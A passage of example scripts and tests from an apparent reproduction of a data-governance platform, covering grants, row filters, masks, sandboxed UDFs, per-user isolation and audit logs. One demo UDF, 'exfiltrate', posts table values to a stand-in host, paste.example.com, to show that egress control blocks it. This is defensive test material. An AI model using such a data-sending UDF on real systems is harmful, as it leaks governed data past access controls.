    cat.tags.tag_table("corp.people.employees", "eu_data")
    cat.tags.register(
        TagMaskPolicy(
            "hash-pii", "pii", hash_builder(),
            exempt_groups=frozenset({"privacy_office"}),
        )
    )
    cat.tags.register(
        TagRowFilterPolicy(
            "eu-residency", "eu_data", parse_expression("country = 'DE'"),
            exempt_groups=frozenset({"privacy_office"}),
        )
    )

    print("=== What an analyst sees (hashed PII, EU rows only) ===")
    ana = cluster.connect("ana")
    for row in ana.sql(
        "SELECT id, name, country, salary FROM corp.people.employees"
    ).collect():
        print("  ", row)

    print("\n=== Hashed masks stay joinable/groupable ===")
    for row in ana.sql(
        "SELECT email, count(*) AS n FROM corp.people.employees GROUP BY email"
    ).collect():
        print("  ", row)

    print("\n=== DESCRIBE shows governance metadata ===")
    described = admin.sql("DESCRIBE corp.people.employees")
    for column in described["columns"]:
        print("  ", column)

    print("\n=== Investigating access with SQL over the audit log ===")
    rows = admin.sql(
        "SELECT principal, action, count(*) AS n FROM system.access.audit "
        "WHERE principal = 'ana' GROUP BY principal, action ORDER BY n DESC"
    ).collect()
    for row in rows:
        print("  ", row)

    denied = admin.sql(
        "SELECT count(*) AS denials FROM system.access.audit WHERE allowed = false"
    ).collect()
    print(f"\ntotal denials recorded: {denied[0][0]}")


if __name__ == "__main__":
    main()
