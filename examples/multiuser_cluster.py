"""Multi-user Standard cluster (§4.1, Figs. 4/7/9).

Three users share one cluster. Each gets their own sessions and sandboxes;
row filters differ per identity; one user's attempt to exfiltrate data or
read another's session state fails.

Run with: ``python examples/multiuser_cluster.py``
"""

from repro.connect.client import col, udf
from repro.errors import EgressDenied, LakeguardError, UserCodeError
from repro.platform import Workspace
from repro.sandbox import net


def main() -> None:
    ws = Workspace()
    ws.add_user("admin", admin=True)
    for user in ("maria", "dev", "sales_bot"):
        ws.add_user(user)
    ws.add_group("emea", ["maria"])
    ws.add_group("amer", ["dev"])
    ws.catalog.create_catalog("corp", owner="admin")
    ws.catalog.create_schema("corp.crm", owner="admin")

    cluster = ws.create_standard_cluster(name="bu-shared")
    admin = cluster.connect("admin")
    admin.sql("CREATE TABLE corp.crm.leads (id int, region string, value float)")
    admin.sql(
        "INSERT INTO corp.crm.leads VALUES "
        "(1,'EMEA',10.0),(2,'AMER',20.0),(3,'EMEA',30.0),(4,'AMER',40.0)"
    )
    for group in ("emea", "amer"):
        admin.sql(f"GRANT USE CATALOG ON corp TO {group}")
        admin.sql(f"GRANT USE SCHEMA ON corp.crm TO {group}")
        admin.sql(f"GRANT SELECT ON corp.crm.leads TO {group}")
    # One policy, different visibility per user.
    admin.sql(
        "ALTER TABLE corp.crm.leads SET ROW FILTER ("
        "  (region = 'EMEA' AND is_account_group_member('emea'))"
        "  OR (region = 'AMER' AND is_account_group_member('amer')))"
    )

    maria = cluster.connect("maria")
    dev = cluster.connect("dev")

    print("=== Same query, same cluster, different users ===")
    query = "SELECT id, region, value FROM corp.crm.leads"
    print("maria (emea):", maria.sql(query).collect())
    print("dev   (amer):", dev.sql(query).collect())

    print("\n=== Per-user sandboxes: same UDF name, isolated execution ===")

    @udf("float")
    def enrich(v):
        return v * 1.1

    maria.table("corp.crm.leads").select(enrich(col("value"))).collect()
    dev.table("corp.crm.leads").select(enrich(col("value"))).collect()
    manager = cluster.backend.cluster_manager
    print(f"sandboxes created: {manager.stats.created} "
          "(one per user session — never shared)")

    print("\n=== Session state never leaks between users ===")
    maria.table("corp.crm.leads").create_temp_view("my_pipeline_input")
    try:
        dev.table("my_pipeline_input").collect()
    except LakeguardError as exc:
        print(f"dev cannot read maria's temp view: {exc}")

    print("\n=== Exfiltration attempt blocked by egress control ===")
    net.register_service("paste.example.com", lambda p, b: "stored")

    @udf("string")
    def exfiltrate(value):
        net.http_post("http://paste.example.com/drop", payload=value)
        return "done"

    try:
        dev.table("corp.crm.leads").select(exfiltrate(col("value"))).collect()
    except (EgressDenied, UserCodeError) as exc:
        print(f"blocked: {exc}")
    finally:
        net.unregister_service("paste.example.com")

    print("\n=== The audit log attributes everything to people ===")
    for event in list(ws.catalog.audit)[-5:]:
        print(f"  {event}")


if __name__ == "__main__":
    main()
