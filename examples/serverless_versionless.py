"""Serverless Spark with versionless clients (§6.2-6.3, Fig. 10).

All workloads connect to one workspace endpoint; the gateway forwards or
provisions clusters, old protocol versions keep working, and live sessions
migrate between backends without the client noticing.

Run with: ``python examples/serverless_versionless.py``
"""

from repro.common.clock import VirtualClock
from repro.connect.client import SparkConnectClient
from repro.platform import Workspace
from repro.platform.serverless import ServerlessGateway


def main() -> None:
    ws = Workspace(clock=VirtualClock())
    ws.add_user("admin", admin=True)
    for i in range(6):
        ws.add_user(f"user{i}")
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.s", owner="admin")

    gateway = ServerlessGateway(
        ws.catalog,
        clock=ws.clock,
        target_sessions_per_cluster=2,
        provision_seconds=30.0,
    )

    print("=== One endpoint, many users (Fig. 10) ===")
    clients = []
    for i in range(5):
        clients.append(SparkConnectClient(gateway.channel(), user=f"user{i}"))
        print(
            f"user{i} connected -> clusters={gateway.cluster_count()}, "
            f"loads={gateway.cluster_loads()}"
        )
    print(
        f"forwarded: {gateway.stats.forwarded}, "
        f"provisioned: {gateway.stats.provisioned}, "
        f"virtual provisioning time: {ws.clock.now():.0f}s"
    )

    print("\n=== Versionless clients (§6.3) ===")
    for version in (1, 2, 4):
        old = SparkConnectClient(gateway.channel(), user="user5", client_version=version)
        result = old.range(3).collect()
        print(f"protocol v{version} client -> server v{old.server_version}: {result}")
        old.close()

    print("\n=== Workload environments pin the client surface ===")
    for version in gateway.environments.versions():
        env = gateway.environments.get(version)
        print(
            f"env {env.version}: python {env.python_version}, "
            f"protocol v{env.client_protocol_version}, deps {env.dependencies}"
        )

    print("\n=== Live session migration (§6.2) ===")
    client = clients[0]
    client.set_config(notebook="churn-analysis")
    before = gateway._routes[client.session_id]
    target = gateway.migrate_session(client.session_id)
    print(f"session moved from cluster {before} to {target}")
    print("state survived:", client.get_config("notebook"))
    print("query still works:", client.range(2).collect())

    print("\n=== Scale down when idle ===")
    for c in clients:
        c.close()
    removed = gateway.scale_down_idle()
    print(f"retired {removed} idle clusters; remaining: {gateway.cluster_count()}")


if __name__ == "__main__":
    main()
