"""Quickstart: a governed table, a grant, a row filter, and two users.

Run with: ``python examples/quickstart.py``
"""

from repro.platform import Workspace


def main() -> None:
    # A workspace wires Unity Catalog + compute together.
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_group("analysts", ["alice"])
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.demo", owner="admin")

    # A Standard cluster: multi-user, sandboxed, locally-enforced FGAC.
    cluster = ws.create_standard_cluster()

    # The admin sets up data and governance — plain SQL.
    admin = cluster.connect("admin")
    admin.sql("CREATE TABLE main.demo.orders (id int, region string, amount float)")
    admin.sql(
        "INSERT INTO main.demo.orders VALUES "
        "(1, 'US', 10.0), (2, 'EU', 20.0), (3, 'US', 30.0), (4, 'APAC', 40.0)"
    )
    admin.sql("GRANT USE CATALOG ON main TO analysts")
    admin.sql("GRANT USE SCHEMA ON main.demo TO analysts")
    admin.sql("GRANT SELECT ON main.demo.orders TO analysts")
    admin.sql("ALTER TABLE main.demo.orders SET ROW FILTER (region = 'US')")

    # Alice connects to the same cluster; the row filter applies to her.
    alice = cluster.connect("alice")
    print("What alice sees (row filter region = 'US'):")
    alice.table("main.demo.orders").show()

    print("\nAggregation respects the same policy:")
    alice.sql(
        "SELECT region, sum(amount) AS total FROM main.demo.orders GROUP BY region"
    ).show()

    # The audit log attributed every access to a person, not a cluster.
    vends = ws.catalog.audit.events(action="catalog.vend_credential")
    print(f"\nCredential vends recorded: {len(vends)} "
          f"(last by '{vends[-1].principal}')")


if __name__ == "__main__":
    main()
