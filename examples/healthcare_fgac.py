"""The paper's motivating example (§2.1, Figs. 1/3/6): healthcare trials.

Clinical-trial sensor data with PII, a sensor view for data scientists, UDF
feature extraction over binary blobs in sandboxes, and a UDF calling an
external air-quality service through governed egress.

Run with: ``python examples/healthcare_fgac.py``
"""

from repro.connect.client import col, udf
from repro.platform import Workspace
from repro.sandbox import net
from repro.sandbox.policy import SandboxPolicy


def build_workspace() -> tuple[Workspace, object]:
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("dr_grey")
    ws.add_user("ds_sam")
    ws.add_group("clinicians", ["dr_grey"])
    ws.add_group("data_science", ["ds_sam"])
    ws.catalog.create_catalog("health", owner="admin")
    ws.catalog.create_schema("health.trials", owner="admin")

    cluster = ws.create_standard_cluster(name="shared-research")
    admin = cluster.connect("admin")
    admin.sql(
        "CREATE TABLE health.trials.raw_data_table ("
        "patient_id int, patient_name string, zip string, "
        "sensor_blob binary, reading float)"
    )
    admin.sql(
        "INSERT INTO health.trials.raw_data_table VALUES "
        "(1, 'Ann Smith', '94105', CAST('001101' AS binary), 0.42),"
        "(2, 'Bo Chen',   '10001', CAST('011000' AS binary), 0.77),"
        "(3, 'Cy Patel',  '94105', CAST('110111' AS binary), 0.91)"
    )
    # The dedicated sensor view filters out PII (Fig. 1).
    admin.sql(
        "CREATE VIEW health.trials.sensor_view AS "
        "SELECT patient_id, zip, sensor_blob, reading "
        "FROM health.trials.raw_data_table"
    )
    for group in ("clinicians", "data_science"):
        admin.sql(f"GRANT USE CATALOG ON health TO {group}")
        admin.sql(f"GRANT USE SCHEMA ON health.trials TO {group}")
    admin.sql("GRANT SELECT ON health.trials.raw_data_table TO clinicians")
    admin.sql("GRANT SELECT ON health.trials.sensor_view TO data_science")
    # Cell-level protection on the raw table itself (Fig. 3).
    admin.sql(
        "ALTER TABLE health.trials.raw_data_table ALTER COLUMN patient_name "
        "SET MASK (CASE WHEN is_account_group_member('clinicians') "
        "THEN patient_name ELSE 'REDACTED' END)"
    )
    return ws, cluster


def main() -> None:
    ws, cluster = build_workspace()

    print("=== Clinician view (member of 'clinicians') ===")
    grey = cluster.connect("dr_grey")
    grey.sql(
        "SELECT patient_id, patient_name, reading FROM health.trials.raw_data_table"
    ).show()

    print("\n=== Data-science view (PII filtered by the sensor view) ===")
    sam = cluster.connect("ds_sam")
    sam.table("health.trials.sensor_view").show()

    print("\n=== Feature extraction UDF, sandboxed (Fig. 1) ===")

    @udf("float")
    def extract_feature(blob):
        bits = blob.decode()
        return bits.count("1") / len(bits)

    sam.table("health.trials.sensor_view").select(
        col("patient_id"), extract_feature(col("sensor_blob")).alias("feature")
    ).show()
    stats = cluster.backend.dispatcher.stats
    print(f"sandbox cold starts: {stats.cold_starts}, warm reuses: "
          f"{stats.warm_acquisitions}")

    print("\n=== External-service UDF with governed egress (Fig. 6) ===")
    net.register_service("example.aqi.com", lambda path, _: {"yesterday": 17.0})

    @udf("float")
    def resolve_zip_to_air_quality(zip_code):
        resp = net.http_post(f"http://example.aqi.com/zip/{zip_code}")
        return float(resp["yesterday"])

    try:
        # First attempt: default locked-down sandbox → egress denied.
        try:
            sam.table("health.trials.sensor_view").select(
                resolve_zip_to_air_quality(col("zip")).alias("aqi")
            ).collect()
        except Exception as exc:  # noqa: BLE001 - demo output
            print(f"locked-down sandbox blocked egress: {exc}")

        # The workspace admin allow-lists the AQI host.
        cluster.backend.cluster_manager.default_policy = (
            SandboxPolicy().with_egress("example.aqi.com")
        )
        sam2 = cluster.connect("ds_sam")
        sam2.table("health.trials.sensor_view").select(
            col("zip"), resolve_zip_to_air_quality(col("zip")).alias("aqi")
        ).show()
    finally:
        net.unregister_service("example.aqi.com")


if __name__ == "__main__":
    main()
