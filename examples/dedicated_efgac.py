"""Dedicated (privileged) compute with external FGAC (§3.4, §4.2, Fig. 8).

A GPU-style workload needs raw machine access, so it runs on a Dedicated
cluster that cannot enforce FGAC locally. Queries against governed tables
are rewritten: the planner plants a RemoteScan, pushes filters/projections/
partial aggregations into it, and Serverless Spark enforces the policies.

Run with: ``python examples/dedicated_efgac.py``
"""

from repro.platform import Workspace


def main() -> None:
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("ml_eng")
    ws.add_group("ml", ["ml_eng"])
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.s", owner="admin")

    std = ws.create_standard_cluster()
    admin = std.connect("admin")
    admin.sql("CREATE TABLE main.s.sales (amount float, date string, seller string, region string)")
    admin.sql(
        "INSERT INTO main.s.sales VALUES "
        "(10.0,'2024-12-01','bob','US'),(20.0,'2024-12-01','joe','EU'),"
        "(30.0,'2024-12-02','ann','US'),(40.0,'2024-12-01','zed','US')"
    )
    for grant in (
        "GRANT USE CATALOG ON main TO ml",
        "GRANT USE SCHEMA ON main.s TO ml",
        "GRANT SELECT ON main.s.sales TO ml",
    ):
        admin.sql(grant)
    # The paper's running example: a row filter restricting to US sales.
    admin.sql("ALTER TABLE main.s.sales SET ROW FILTER (region = 'US')")

    # The ML engineer's dedicated cluster (privileged machine access).
    ded = ws.create_dedicated_cluster(assigned_user="ml_eng", name="gpu-box")
    ml = ded.connect("ml_eng")

    print("=== The paper's Fig. 8 query, on privileged compute ===")
    query = "SELECT amount, date, seller FROM main.s.sales WHERE date = '2024-12-01'"
    print(f"SQL: {query}\n")
    rows = ml.sql(query).collect()
    print("rows (row filter enforced remotely):", rows)

    print("\nrewritten plan on the dedicated cluster:")
    print(ded.backend.last_result.optimized_plan.explain())

    stats = ded.backend.remote_executor.stats
    rows_after_filter_query = stats.rows_received
    print(f"\nremote subqueries: {stats.subqueries}; "
          f"rows shipped back: {rows_after_filter_query} "
          "(filter + projection were pushed into the remote scan)")

    print("\n=== Partial aggregation pushdown ===")
    agg = "SELECT region, sum(amount) AS total, count(*) AS n FROM main.s.sales GROUP BY region"
    print(f"SQL: {agg}\n")
    print("result:", ml.sql(agg).collect())
    print(ded.backend.last_result.optimized_plan.explain())
    print(f"\nrows shipped for the aggregate: "
          f"{stats.rows_received - rows_after_filter_query} "
          "(aggregate states, not data rows)")

    print("\n=== Equivalence with local enforcement ===")
    ws.add_group("ml_std", ["ml_eng"])  # let ml_eng on the standard cluster
    std_rows = std.connect("ml_eng").sql(query).collect()
    print("standard cluster result:", std_rows)
    print("identical:", sorted(std_rows) == sorted(rows))

    print(f"\nserverless clusters provisioned behind the scenes: "
          f"{ws.serverless.cluster_count()}")


if __name__ == "__main__":
    main()
