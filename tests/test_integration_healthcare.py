"""End-to-end integration test: the paper's motivating example (§2.1).

A healthcare enterprise stores sensor data with PII in Delta tables under
Unity Catalog. Data scientists extract features from binary sensor data with
UDFs but must never see PII; ETL runs hourly; analysts run ad-hoc SQL —
all on shared compute, all governed by one set of policies.
"""

import pytest

from repro.connect.client import col, udf
from repro.platform import Workspace
from repro.sandbox import net


@pytest.fixture
def healthcare():
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("dr_grey")        # clinician, may see PII
    ws.add_user("ds_sam")         # data scientist, no PII
    ws.add_user("etl_bot")        # pipeline service account
    ws.add_group("clinicians", ["dr_grey"])
    ws.add_group("data_science", ["ds_sam"])
    cat = ws.catalog
    cat.create_catalog("health", owner="admin")
    cat.create_schema("health.trials", owner="admin")

    cluster = ws.create_standard_cluster(name="shared-research")
    admin = cluster.connect("admin")
    admin.sql(
        "CREATE TABLE health.trials.raw_data_table ("
        "patient_id int, patient_name string, zip string, "
        "sensor_blob binary, reading float, ts string)"
    )
    admin.sql(
        "INSERT INTO health.trials.raw_data_table VALUES "
        "(1, 'Ann Smith', '94105', CAST('0101' AS binary), 0.42, 't1'),"
        "(2, 'Bo Chen',   '10001', CAST('0110' AS binary), 0.77, 't2'),"
        "(3, 'Cy Patel',  '94105', CAST('1101' AS binary), 0.91, 't3')"
    )
    # The dedicated sensor view for data scientists: drops PII columns.
    admin.sql(
        "CREATE VIEW health.trials.sensor_view AS "
        "SELECT patient_id, zip, sensor_blob, reading, ts "
        "FROM health.trials.raw_data_table"
    )
    for group in ("clinicians", "data_science"):
        admin.sql(f"GRANT USE CATALOG ON health TO {group}")
        admin.sql(f"GRANT USE SCHEMA ON health.trials TO {group}")
    admin.sql("GRANT SELECT ON health.trials.raw_data_table TO clinicians")
    admin.sql("GRANT SELECT ON health.trials.sensor_view TO data_science")
    # PII mask even for direct readers outside 'clinicians'.
    admin.sql(
        "ALTER TABLE health.trials.raw_data_table ALTER COLUMN patient_name "
        "SET MASK (CASE WHEN is_account_group_member('clinicians') "
        "THEN patient_name ELSE 'REDACTED' END)"
    )
    return ws, cluster, admin


class TestHealthcareScenario:
    def test_data_scientist_sees_no_pii(self, healthcare):
        ws, cluster, _ = healthcare
        sam = cluster.connect("ds_sam")
        schema = sam.table("health.trials.sensor_view").schema()
        names = {f["name"].split(".")[-1] for f in schema}
        assert "patient_name" not in names

    def test_data_scientist_cannot_read_raw_table(self, healthcare):
        from repro.errors import PermissionDenied

        ws, cluster, _ = healthcare
        sam = cluster.connect("ds_sam")
        with pytest.raises(PermissionDenied):
            sam.table("health.trials.raw_data_table").collect()

    def test_clinician_sees_names(self, healthcare):
        ws, cluster, _ = healthcare
        grey = cluster.connect("dr_grey")
        names = {
            r[0]
            for r in grey.sql(
                "SELECT patient_name FROM health.trials.raw_data_table"
            ).collect()
        }
        assert "Ann Smith" in names

    def test_admin_outside_clinicians_sees_mask(self, healthcare):
        ws, cluster, admin = healthcare
        values = {
            r[0]
            for r in admin.sql(
                "SELECT patient_name FROM health.trials.raw_data_table"
            ).collect()
        }
        assert values == {"REDACTED"}

    def test_feature_extraction_udf_in_sandbox(self, healthcare):
        """The Fig. 1 workload: UDF feature extraction over binary blobs."""
        ws, cluster, _ = healthcare

        @udf("float")
        def extract_feature(blob):
            # Toy 'conversion': fraction of set bits in the blob text.
            bits = blob.decode()
            return bits.count("1") / len(bits)

        sam = cluster.connect("ds_sam")
        rows = sam.table("health.trials.sensor_view").select(
            col("patient_id"), extract_feature(col("sensor_blob")).alias("feat")
        ).collect()
        assert rows == [(1, 0.5), (2, 0.5), (3, 0.75)]
        # It really ran in a sandbox.
        assert cluster.backend.cluster_manager.stats.created >= 1

    def test_air_quality_udf_with_governed_egress(self, healthcare):
        """Fig. 6: a UDF calls an external service, through egress rules."""
        ws, cluster, admin_client = healthcare
        net.register_service(
            "example.aqi.com", lambda path, payload: {"yesterday": 17.0}
        )
        try:

            @udf("float")
            def resolve_zip_to_air_quality(zip_code):
                resp = net.http_post(f"http://example.aqi.com/zip/{zip_code}")
                return float(resp["yesterday"])

            from repro.sandbox.policy import SandboxPolicy

            # Workspace admin allow-lists the AQI service for this cluster.
            cluster.backend.cluster_manager.default_policy = (
                SandboxPolicy().with_egress("example.aqi.com")
            )
            sam = cluster.connect("ds_sam")
            rows = sam.table("health.trials.sensor_view").select(
                resolve_zip_to_air_quality(col("zip")).alias("aqi")
            ).collect()
            assert rows == [(17.0,), (17.0,), (17.0,)]
        finally:
            net.unregister_service("example.aqi.com")

    def test_hourly_etl_and_adhoc_sql_same_policies(self, healthcare):
        """ETL writes land governed; ad-hoc SQL sees them immediately."""
        ws, cluster, admin = healthcare
        admin.sql("GRANT USE CATALOG ON health TO etl_bot")
        admin.sql("GRANT USE SCHEMA ON health.trials TO etl_bot")
        admin.sql("GRANT SELECT ON health.trials.raw_data_table TO etl_bot")
        admin.sql("GRANT MODIFY ON health.trials.raw_data_table TO etl_bot")
        etl = cluster.connect("etl_bot")
        etl.sql(
            "INSERT INTO health.trials.raw_data_table VALUES "
            "(4, 'Di Wong', '60601', CAST('1111' AS binary), 0.33, 't4')"
        )
        grey = cluster.connect("dr_grey")
        count = grey.sql(
            "SELECT count(*) AS n FROM health.trials.raw_data_table"
        ).collect()
        assert count == [(4,)]

    def test_collaborative_training_on_shared_cluster(self, healthcare):
        """Two data scientists share the cluster; sessions stay isolated."""
        ws, cluster, admin = healthcare
        ws.add_user("ds_kim")
        ws.catalog.principals.add_member("data_science", "ds_kim")
        sam = cluster.connect("ds_sam")
        kim = cluster.connect("ds_kim")
        sam_view = sam.table("health.trials.sensor_view")
        sam_view.create_temp_view("training_set")
        # kim can run her own queries but not see sam's temp view.
        assert len(kim.table("health.trials.sensor_view").collect()) == 3
        from repro.errors import LakeguardError

        with pytest.raises(LakeguardError):
            kim.table("training_set").collect()

    def test_audit_trail_attributes_every_access(self, healthcare):
        ws, cluster, _ = healthcare
        sam = cluster.connect("ds_sam")
        sam.table("health.trials.sensor_view").collect()
        principals = {e.principal for e in ws.catalog.audit}
        assert "ds_sam" in principals
