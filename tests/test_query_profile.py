"""``system.access.query_profile``: user-scoped span introspection.

Unlike ``system.access.audit`` (admins only), every user may read their own
query profiles — but never another principal's. Admins see everything.
"""

from __future__ import annotations

import pytest

from repro.errors import PermissionDenied

PROFILE = "system.access.query_profile"


@pytest.fixture
def traced(workspace, standard_cluster, admin_client):
    """Alice has run one governed query; her trace is on record."""
    alice = standard_cluster.connect("alice")
    alice.table("main.sales.orders").collect()
    return alice


class TestQueryProfileAccess:
    def test_user_sees_own_profile_rows(self, traced, standard_cluster):
        first_trace = traced.last_trace_id
        rows = traced.table(PROFILE).to_dict()
        assert set(rows["user"]) == {"alice"}
        assert first_trace in rows["trace_id"], "alice must see her own spans"

    def test_profile_rows_cover_the_whole_pipeline(
        self, traced, standard_cluster
    ):
        rows = traced.table(PROFILE).to_dict()
        assert {"service.operation", "pipeline.stage", "credential.vend"} <= set(
            rows["kind"]
        )

    def test_non_admin_cannot_see_other_users_profiles(
        self, traced, standard_cluster
    ):
        bob = standard_cluster.connect("bob")
        rows = bob.table(PROFILE).to_dict()
        assert "alice" not in set(rows["user"])

    def test_admin_sees_all_users_profiles(
        self, traced, standard_cluster, admin_client
    ):
        rows = admin_client.table(PROFILE).to_dict()
        assert "alice" in set(rows["user"])

    def test_profiles_are_readable_but_audit_stays_admin_only(
        self, traced, standard_cluster
    ):
        with pytest.raises(PermissionDenied):
            traced.table("system.access.audit").collect()

    def test_durations_and_attributes_are_materialized(
        self, traced, standard_cluster
    ):
        import json

        rows = traced.table(PROFILE).to_dict()
        assert all(d >= 0.0 for d in rows["duration_ms"])
        stage_attrs = [
            json.loads(a)
            for a, k in zip(rows["attributes"], rows["kind"])
            if k == "pipeline.stage"
        ]
        assert any("stage" in a for a in stage_attrs)
