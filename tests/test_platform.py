"""Tests for compute types, the serverless gateway, and workload envs."""

import pytest

from repro.common.clock import VirtualClock
from repro.connect.client import SparkConnectClient
from repro.errors import ClusterAttachDenied, ConfigurationError, PermissionDenied
from repro.platform import Workspace
from repro.platform.serverless import ServerlessGateway
from repro.platform.workload_env import (
    WorkloadEnvironment,
    standard_environments,
)


class TestStandardCluster:
    def test_any_known_user_attaches(self, workspace, standard_cluster):
        standard_cluster.connect("alice")
        standard_cluster.connect("bob")
        assert {"alice", "bob"} <= standard_cluster.attached_users

    def test_unknown_user_rejected(self, workspace, standard_cluster):
        with pytest.raises(ClusterAttachDenied):
            standard_cluster.connect("mallory")

    def test_sessions_isolated_per_user(self, workspace, standard_cluster, admin_client):
        """Residual state isolation (§2.5): temp views don't leak."""
        alice = standard_cluster.connect("alice")
        alice.table("main.sales.orders").create_temp_view("my_view")
        carol = standard_cluster.connect("carol")
        from repro.errors import LakeguardError

        with pytest.raises(LakeguardError):
            carol.table("my_view").collect()

    def test_udfs_of_users_use_distinct_sandboxes(
        self, workspace, standard_cluster, admin_client
    ):
        from repro.connect.client import col, udf

        @udf("float")
        def one(x):
            return 1.0

        admin_client.sql("GRANT SELECT ON main.sales.orders TO carol")
        admin_client.sql("GRANT USE CATALOG ON main TO carol")
        admin_client.sql("GRANT USE SCHEMA ON main.sales TO carol")
        alice = standard_cluster.connect("alice")
        carol = standard_cluster.connect("carol")
        alice.table("main.sales.orders").select(one(col("amount"))).collect()
        carol.table("main.sales.orders").select(one(col("amount"))).collect()
        # Two sessions → at least two sandboxes, never shared.
        assert standard_cluster.backend.cluster_manager.stats.created >= 2


class TestDedicatedCluster:
    def test_assigned_user_only(self, workspace):
        ded = workspace.create_dedicated_cluster(assigned_user="alice")
        ded.connect("alice")
        with pytest.raises(ClusterAttachDenied):
            ded.connect("bob")

    def test_group_members_attach(self, workspace):
        ded = workspace.create_dedicated_cluster(assigned_group="analysts", name="g")
        ded.connect("alice")
        ded.connect("carol")
        with pytest.raises(ClusterAttachDenied):
            ded.connect("bob")

    def test_must_assign_exactly_one(self, workspace):
        with pytest.raises(ClusterAttachDenied):
            workspace.create_dedicated_cluster()
        with pytest.raises(ClusterAttachDenied):
            workspace.create_dedicated_cluster(
                assigned_user="alice", assigned_group="analysts"
            )

    def test_group_down_scoping(self, workspace, standard_cluster, admin_client):
        """§4.2: on a group cluster, personal grants beyond the group vanish."""
        # alice personally gets MODIFY; the group only has SELECT.
        admin_client.sql("GRANT MODIFY ON main.sales.orders TO alice")
        ded = workspace.create_dedicated_cluster(assigned_group="analysts", name="g2")
        alice = ded.connect("alice")
        # Reads work (group right)…
        assert len(alice.table("main.sales.orders").collect()) == 4
        # …but the personal MODIFY is out of scope on this cluster.
        with pytest.raises(PermissionDenied):
            alice.sql("INSERT INTO main.sales.orders VALUES (9,'US',1.0,'x')")

    def test_down_scoped_identity_still_audited(
        self, workspace, standard_cluster, admin_client
    ):
        ded = workspace.create_dedicated_cluster(assigned_group="analysts", name="g3")
        alice = ded.connect("alice")
        alice.table("main.sales.orders").collect()
        events = workspace.catalog.audit.events(principal="alice")
        assert events, "original identity must appear in the audit log"


class TestServerlessGateway:
    def _workspace(self):
        ws = Workspace(clock=VirtualClock())
        ws.add_user("admin", admin=True)
        for i in range(10):
            ws.add_user(f"user{i}")
        ws.catalog.create_catalog("m", owner="admin")
        ws.catalog.create_schema("m.s", owner="admin")
        return ws

    def test_connections_share_clusters_until_target(self):
        ws = self._workspace()
        gateway = ServerlessGateway(
            ws.catalog, clock=ws.clock, target_sessions_per_cluster=4
        )
        clients = [
            SparkConnectClient(gateway.channel(), user=f"user{i}") for i in range(4)
        ]
        assert gateway.cluster_count() == 1
        assert gateway.stats.provisioned == 1
        assert gateway.stats.forwarded == 3

    def test_scale_up_beyond_target(self):
        ws = self._workspace()
        gateway = ServerlessGateway(
            ws.catalog, clock=ws.clock, target_sessions_per_cluster=2
        )
        for i in range(5):
            SparkConnectClient(gateway.channel(), user=f"user{i}")
        assert gateway.cluster_count() == 3

    def test_sessions_route_consistently(self):
        ws = self._workspace()
        gateway = ServerlessGateway(ws.catalog, clock=ws.clock)
        client = ws_client = SparkConnectClient(gateway.channel(), user="user0")
        assert client.range(3).collect() == [(0,), (1,), (2,)]
        assert client.range(2).collect() == [(0,), (1,)]

    def test_scale_down_idle(self):
        ws = self._workspace()
        gateway = ServerlessGateway(
            ws.catalog, clock=ws.clock, target_sessions_per_cluster=1
        )
        clients = [
            SparkConnectClient(gateway.channel(), user=f"user{i}") for i in range(3)
        ]
        for c in clients:
            c.close()
        removed = gateway.scale_down_idle()
        assert removed == 3
        assert gateway.cluster_count() == 0

    def test_provisioning_latency_charged(self):
        ws = self._workspace()
        gateway = ServerlessGateway(
            ws.catalog, clock=ws.clock, provision_seconds=30.0
        )
        before = ws.clock.now()
        SparkConnectClient(gateway.channel(), user="user0")
        assert ws.clock.now() - before >= 30.0

    def test_predictive_autoscale(self):
        ws = self._workspace()
        gateway = ServerlessGateway(
            ws.catalog, clock=ws.clock, target_sessions_per_cluster=2
        )
        # Two ticks with 4 connections each → forecast ≈ 4.
        for tick in range(2):
            for i in range(4):
                client = SparkConnectClient(gateway.channel(), user=f"user{i}")
                client.close()
            gateway.autoscale()
        loads = gateway.cluster_loads()
        spare = sum(2 - n for n in loads)
        assert spare >= 4, f"forecasted capacity not pre-provisioned: {loads}"

    def test_session_migration_is_transparent(self):
        ws = self._workspace()
        gateway = ServerlessGateway(
            ws.catalog, clock=ws.clock, target_sessions_per_cluster=8
        )
        client = SparkConnectClient(gateway.channel(), user="user0")
        client.set_config(flavor="blue")
        target = gateway.migrate_session(client.session_id)
        # Client keeps working with the same session id, state intact.
        assert client.get_config("flavor") == {"flavor": "blue"}
        assert client.range(2).collect() == [(0,), (1,)]
        assert gateway.stats.migrations == 1

    def test_capacity_limit(self):
        ws = self._workspace()
        gateway = ServerlessGateway(
            ws.catalog, clock=ws.clock, max_clusters=1, target_sessions_per_cluster=1
        )
        SparkConnectClient(gateway.channel(), user="user0")
        from repro.errors import LakeguardError

        with pytest.raises(LakeguardError):
            SparkConnectClient(gateway.channel(), user="user1")

    def test_default_environment_pinned(self):
        ws = self._workspace()
        gateway = ServerlessGateway(ws.catalog, clock=ws.clock)
        client = SparkConnectClient(gateway.channel(), user="user0")
        env = client.get_config("workload_env")
        assert env["workload_env"] == gateway.environments.default().version


class TestWorkloadEnvironments:
    def test_registry_default(self):
        registry = standard_environments()
        assert registry.default().version == "3.0"

    def test_unknown_version(self):
        with pytest.raises(ConfigurationError):
            standard_environments().get("99.0")

    def test_compatibility_rule(self):
        env = WorkloadEnvironment("1.0", client_protocol_version=1, python_version="3.9")
        assert env.is_compatible_with_server(4)
        newer = WorkloadEnvironment("9.0", client_protocol_version=9, python_version="3.13")
        assert not newer.is_compatible_with_server(4)

    def test_resolve_for_session(self):
        registry = standard_environments()
        env = registry.resolve_for_session({"workload_env": "1.0"})
        assert env.python_version == "3.9"
        assert registry.resolve_for_session({}).version == "3.0"

    def test_every_standard_env_is_server_compatible(self):
        from repro.connect.proto import PROTOCOL_VERSION

        registry = standard_environments()
        for version in registry.versions():
            assert registry.get(version).is_compatible_with_server(PROTOCOL_VERSION)

    def test_old_env_client_executes_against_new_server(self, workspace, standard_cluster, admin_client):
        """§6.3 versionless: a v1-protocol client runs unchanged."""
        registry = standard_environments()
        old_env = registry.get("1.0")
        client = standard_cluster.connect(
